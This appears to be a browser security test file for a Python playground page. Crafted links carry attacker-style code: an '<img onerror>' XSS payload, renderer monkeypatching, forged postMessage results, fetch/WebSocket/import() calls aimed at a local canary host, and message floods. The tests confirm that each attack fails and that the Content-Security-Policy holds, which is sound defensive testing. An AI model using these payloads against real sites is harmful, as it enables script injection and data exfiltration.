"""Crafted playground links in a real browser: code from a link reaches no page and no network.

A link's ``#code=`` runs as soon as the page opens, so each test here opens one
written as an attacker would (issue 19): code that swaps the renderer for one
that emits ``<img onerror>``, code that posts forged result messages, code that
calls ``fetch``/XHR/WebSocket/``import()`` towards another host, code that floods
the page with messages. Each must leave no dialog, no element the page did not
make, no request off 127.0.0.1 (a canary server on 127.0.0.2 counts every
connection) and a page that answers a click within half a second. The site's
Content-Security-Policy, the fragment that clears what it omits and the Stop
button are checked here too. Same server, browser and Chromium as test_site.py.
"""

from __future__ import annotations

import json
import re
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import load_example
from playwright.sync_api import Browser, Dialog, Page, expect
from test_site import VIEWPORTS, Visit, base_url, browser  # noqa: F401 - fixtures

from cnnexplain._explain_code.playground import run

playground = load_example("playground")
EVIL = '<img src=x onerror="window.pwned = 1; alert(document.domain)">'
INJECTED = (
    "img, script, iframe, object, embed, svg, image, a, [onerror], [src], [href], [style*=url]"
)
MODEL = "import keras\nmodel = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2)])\n"
# What every crafted link's code starts with: the JavaScript side, if there is one.
JS = """\
try:
    import js
    from pyodide.ffi import to_js
except ImportError:  # CPython, where the same code runs for the expected answer
    js = None

def data(value):
    return to_js(value, dict_converter=js.Object.fromEntries)

def attempt(action):
    try:
        action()
    except Exception:
        pass
"""
CLICK_LIMIT_S = 0.5


class Canary:
    """A TCP server on 127.0.0.2 that counts every connection made to it: the "other host"."""

    def __init__(self) -> None:
        self.hits: list[bytes] = []
        self.server = socket.create_server(("127.0.0.2", 0))
        self.port = self.server.getsockname()[1]
        self.url = f"http://127.0.0.2:{self.port}"
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(1)
                try:
                    self.hits.append(conn.recv(200))
                except OSError:
                    self.hits.append(b"(connected)")


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    found = Canary()
    yield found
    found.server.close()


class Opened:
    """A fresh page opened on a crafted link; what it did is recorded as it happens."""

    def __init__(self, page: Page, visit: Visit) -> None:
        self.page = page
        self.visit = visit
        self.dialogs: list[str] = []
        self.offsite: list[str] = []
        page.on("dialog", self.on_dialog)
        page.on("websocket", lambda ws: self.offsite.append(f"websocket {ws.url}"))

    def on_dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def wait_run(self, run: int, timeout: float = 60_000) -> Any:
        expect(self.page.locator("#playground-output")).to_have_attribute(
            "data-run", str(run), timeout=timeout
        )
        return self.page.evaluate("document.getElementById('playground-output').playgroundAnswer")

    def injected(self) -> list[str]:
        """Elements inside the output that the page's own builder never makes, and a set flag."""
        found: list[str] = self.page.evaluate(
            """(selector) => Array.from(
                document.querySelectorAll(`#playground-output :is(${selector})`),
                (el) => el.outerHTML.slice(0, 120))""",
            INJECTED,
        )
        if self.page.evaluate("window.pwned !== undefined"):
            found.append("window.pwned was set")
        return found

    def harmless(self) -> None:
        assert self.dialogs == []
        assert self.injected() == []
        assert self.offsite == []
        assert [p for p in self.visit.problems if "another host" in p] == []


@pytest.fixture
def open_link(browser: Browser, base_url: str) -> Iterator[Any]:  # noqa: F811 - fixtures
    contexts = []

    def opener(code: str, worker: str | None = None, **counts: Any) -> Opened:
        """The page on a link with ``code``; with ``worker``, that script serves as the worker."""
        ctx = browser.new_context(viewport=VIEWPORTS["desktop"])
        contexts.append(ctx)
        page = ctx.new_page()
        opened = Opened(page, Visit(page, base_url))
        if worker is not None:  # registered last, so it answers before Visit's route
            page.route(
                "**/assets/playground-worker.js",
                lambda route: route.fulfill(body=worker, content_type="text/javascript"),
            )
        page.goto(f"{base_url}playground/#{playground.fragment(code, **counts)}")
        return opened

    yield opener
    for ctx in contexts:
        ctx.close()


def _forged_view(text: str, tag: str = "mn") -> str:
    """Python source of a view with ``text`` in every field and one formula token ``tag``."""
    rows = f'[{{"depth": 0, "cells": [{text!r}] * 5}}]'
    table = (
        f'{{"name": {text!r}, "headers": [{text!r}] * 5, "rows": {rows}, '
        f'"totals": [[{text!r}, {text!r}]], "notes": [{text!r}]}}'
    )
    finding = ", ".join(
        f'"{k}": {text!r}' for k in ("step", "layer", "layer_kind", "finding", "amount", "why")
    )
    return (
        f'{{"models": [{{"table": {table}, "math": [[{tag!r}, {text!r}]], '
        f'"output_shape": {text!r}}}], '
        f'"notes": [{{"line": 1, "kind": "error", "lead": {text!r}, "message": {text!r}}}], '
        f'"stopped": True, "diagnosis": {{"headline": {text!r}, "findings": [{{{finding}}}], '
        f'"equation": {text!r}}}, "output": {text!r}}}'
    )


def _swap_renderer(view: str) -> str:
    """Code that replaces the renderer (the HTML one and the data one) with the attacker's."""
    return f"""\
import importlib
def swap(modules, name, replacement):
    for module in modules:
        try:
            setattr(importlib.import_module(module), name, replacement)
        except ImportError:
            pass
# the HTML the page once put in, and the view it builds from now (either package layout)
swap(["cnnexplain._render.code", "cnnexplain._render.code"], "code_html", lambda r: {EVIL!r})
swap(["cnnexplain._explain_code.playground", "cnnexplain._explain_code.playground"], "code_view",
     lambda r: {view})
{MODEL}"""


def test_a_swapped_renderer_is_shown_as_text(open_link: Any) -> None:
    opened = open_link(_swap_renderer(_forged_view(EVIL)))
    opened.wait_run(1)
    time.sleep(0.5)  # an onerror fires after the image fails to load
    opened.harmless()
    text = opened.page.inner_text("#playground-output")
    assert EVIL in text  # the markup, as text


def test_a_formula_of_other_elements_is_refused(open_link: Any) -> None:
    opened = open_link(_swap_renderer(_forged_view("alert(1)", tag="script")))
    answer = opened.wait_run(1)
    opened.harmless()
    assert answer["ok"] is False
    error = opened.page.inner_text("#playground-output .playground-error")
    assert (
        error == "The playground could not read Python's answer (a formula token is not mn or mo)."
    )


FORGE = f"""\
{JS}
view = {_forged_view(EVIL)}
captured = []
if js is not None:
    def forge(run):
        return data({{"type": "result", "id": run, "ms": 0,
                      "answer": {{"ok": True, "html": {EVIL!r}, "view": view}}}})
    posts = [
        lambda m: js.postMessage(m),
        lambda m: js.self.postMessage(m),
        lambda m: js.Object.getPrototypeOf(js.self).postMessage.call(js.self, m),
        lambda m: js.eval("(m) => postMessage(m)")(m),
        lambda m: js.BroadcastChannel.new("playground").postMessage(m),
    ]
    for run in range(1, 6):
        for post in posts:
            attempt(lambda: post(forge(run)))
    # The answer goes out after this code: catch the port it is sent through.
    def grab(*args):
        captured.append(args)
    attempt(lambda: setattr(js.MessagePort.prototype, "postMessage", grab))
    attempt(lambda: setattr(js.JSON, "parse", lambda *args: forge(1)))
{MODEL}"""


def test_forged_messages_do_not_reach_the_page(open_link: Any) -> None:
    opened = open_link(FORGE)
    answer = opened.wait_run(1)
    time.sleep(0.5)
    opened.harmless()
    assert answer == run(FORGE)  # the real answer, not a forged one


def _network(off: str) -> str:
    ws = off.replace("http://", "ws://")
    return f"""\
{JS}
if js is not None:
    def xhr():
        request = js.XMLHttpRequest.new()
        request.open("GET", "{off}/xhr", False)
        request.send()
    attempt(lambda: js.fetch("{off}/fetch"))
    attempt(xhr)
    attempt(lambda: js.WebSocket.new("{ws}/ws"))
    attempt(lambda: js.EventSource.new("{off}/sse"))
    attempt(lambda: js.importScripts("{off}/importScripts.js"))
    attempt(lambda: js.eval("fetch('{off}/eval')"))
    attempt(lambda: js.eval("import('{off}/import.js')"))
    attempt(lambda: js.Object.constructor("return fetch('{off}/function')")())
    attempt(lambda: js.setTimeout("fetch('{off}/timeout')", 0))
    attempt(lambda: js.Worker.new("{off}/worker.js"))
    def open_url():
        import pyodide.http
        pyodide.http.open_url("{off}/open_url")
    attempt(open_url)
    def load_package():
        import pyodide_js
        pyodide_js.loadPackage("{off}/package.whl")
    attempt(load_package)
{MODEL}"""


def test_code_from_a_link_cannot_reach_another_host(open_link: Any, canary: Canary) -> None:
    code = _network(canary.url)
    opened = open_link(code)
    answer = opened.wait_run(1)
    time.sleep(1.5)  # time for anything started to connect
    opened.harmless()
    assert canary.hits == []
    assert answer == run(code)


FLOOD = f"""\
import time
{JS}
if js is not None:
    message = data({{"type": "progress", "text": "flood " * 40}})
    for post in (lambda m: js.postMessage(m), lambda m: js.self.postMessage(m)):
        try:
            post(message)
        except Exception:
            continue
        end = time.time() + 3
        while time.time() < end:
            for _ in range(1000):
                post(message)
        break
end = time.time() + 5  # the run goes on while the page is clicked
while time.time() < end:
    pass
{MODEL}"""


def test_a_flood_leaves_the_page_responsive(open_link: Any) -> None:
    opened = open_link(FLOOD)
    page = opened.page
    ready = "window.playgroundTimings.ready !== null"
    deadline = time.monotonic() + 90
    while not page.evaluate(ready) and time.monotonic() < deadline:
        time.sleep(0.1)
    time.sleep(0.5)  # the code has started: the flood, if any, is under way
    seconds = []
    for _ in range(5):
        t0 = time.monotonic()
        page.click("#playground-counts", timeout=20_000)
        seconds.append(time.monotonic() - t0)
        time.sleep(0.3)
    assert max(seconds) < CLICK_LIMIT_S, seconds
    opened.wait_run(1)
    opened.harmless()


# Stand-ins for a worker gone wrong, to test the page's own defences (the real worker
# gives code from a link no way to send these): each answers the page's first run.
BAD_WORKER = """
self.onmessage = (event) => {
  const port = event.ports[0];
  port.postMessage({ type: "ready", stages: {} });
  port.onmessage = (request) => { %s };
};
"""
FLOODING_WORKER = BAD_WORKER % (
    'for (let i = 0; i < 200000; i++) port.postMessage({ type: "progress", text: "flood" });'
    'port.postMessage({ type: "result", id: request.data.id, ms: 0, answer: { ok: false,'
    ' error: "the flood got through", line: null } });'
)
HTML_WORKER = BAD_WORKER % (
    'port.postMessage({ type: "result", id: request.data.id, ms: 0,'
    f" answer: {{ ok: true, html: {json.dumps(EVIL)} }} }});"
)


def test_a_worker_that_floods_the_page_is_stopped(open_link: Any) -> None:
    opened = open_link(MODEL, worker=FLOODING_WORKER)
    answer = opened.wait_run(1)
    assert (
        answer["error"] == "Python sent the page more messages than a run sends, so it was stopped."
    )
    t0 = time.monotonic()
    opened.page.click("#playground-counts", timeout=20_000)
    assert time.monotonic() - t0 < CLICK_LIMIT_S
    opened.harmless()


def test_an_answer_of_another_shape_is_refused(open_link: Any) -> None:
    opened = open_link(MODEL, worker=HTML_WORKER)
    answer = opened.wait_run(1)
    time.sleep(0.5)
    opened.harmless()
    error = opened.page.inner_text("#playground-output .playground-error")
    assert error == "The playground could not read Python's answer (a record is not an object)."
    assert answer["ok"] is False


def test_stop_ends_a_run_and_python_starts_again(open_link: Any) -> None:
    opened = open_link("while True:\n    pass\n")
    page = opened.page
    expect(page.locator("#playground-status")).to_have_attribute(
        "data-state", "running", timeout=90_000
    )
    page.click("#playground-stop")
    answer = opened.wait_run(1, timeout=5_000)
    assert answer["error"].startswith("Stopped: the run was ended with the Stop button")
    expect(page.locator("#playground-stop")).to_be_disabled()
    expect(page.locator("#playground-status")).to_have_attribute(
        "data-state", "ready", timeout=90_000
    )
    page.fill("#playground-code", MODEL)
    page.click("#playground-run")
    assert opened.wait_run(2) == run(MODEL)
    opened.harmless()


def test_each_fragment_sets_every_field_and_clears_the_rest(open_link: Any) -> None:
    code = playground.corrected_source()
    opened = open_link(code, per_layer=[320, 0, 0, 540900, 1010])
    page = opened.page
    assert opened.wait_run(1) == run(code, "320,0,0,540900,1010", "per_layer")
    assert page.input_value("#playground-counts") == "320,0,0,540900,1010"
    page.evaluate("(fragment) => { location.hash = fragment; }", playground.fragment(MODEL))
    assert opened.wait_run(2) == run(MODEL)
    assert page.input_value("#playground-code") == MODEL
    assert page.input_value("#playground-counts") == ""
    assert page.input_value("#playground-mode") == "running"
    assert page.locator("#playground-output .playground-diagnosis").count() == 0
    opened.harmless()


CSP = re.compile(r'<meta http-equiv="Content-Security-Policy" content="(?P<policy>[^"]+)">')
INLINE_SCRIPT = re.compile(r"<script(?![^>]*\ssrc=)(?![^>]*\stype=\"application/json\")[^>]*>")


def test_every_page_has_a_content_security_policy(built_site: Path) -> None:
    pages = sorted(built_site.rglob("*.html"))
    assert len(pages) > 10
    for path in pages:
        html = path.read_text(encoding="utf-8")
        where = path.relative_to(built_site)
        match = CSP.search(html)
        assert match, f"{where} has no Content-Security-Policy"
        assert match.start() < html.index("<script"), f"{where}: a script comes before the policy"
        directives = dict(d.strip().split(" ", 1) for d in match["policy"].split(";"))
        assert directives["script-src"] == "'self' 'wasm-unsafe-eval'", where
        assert directives["connect-src"] == "'self'", where
        assert directives["worker-src"] == "'self' blob:", where
        assert directives["default-src"] == "'self'", where
        assert INLINE_SCRIPT.findall(html) == [], where


def test_the_policy_holds_in_the_browser(browser: Browser, base_url: str) -> None:  # noqa: F811
    """Chromium enforces it: an inline script and code from a string are refused, ours run."""
    ctx = browser.new_context(viewport=VIEWPORTS["desktop"])
    try:
        page = ctx.new_page()
        visit = Visit(page, base_url)
        page.goto(base_url + "tutorial/", wait_until="networkidle")
        assert page.evaluate("typeof __md_get") == "function"  # assets/theme/base.js ran
        page.evaluate(
            """() => {
            const script = document.createElement("script");
            script.textContent = "window.pwned = 1";
            document.body.append(script);
        }"""
        )
        assert page.evaluate("window.pwned === undefined")
        page.evaluate("() => { setTimeout('window.evaluated = 1', 0); }")  # code from a string
        time.sleep(0.3)
        assert page.evaluate("window.evaluated === undefined")
        assert [p for p in visit.problems if "Content Security Policy" in p] != []  # the refusal
    finally:
        ctx.close()
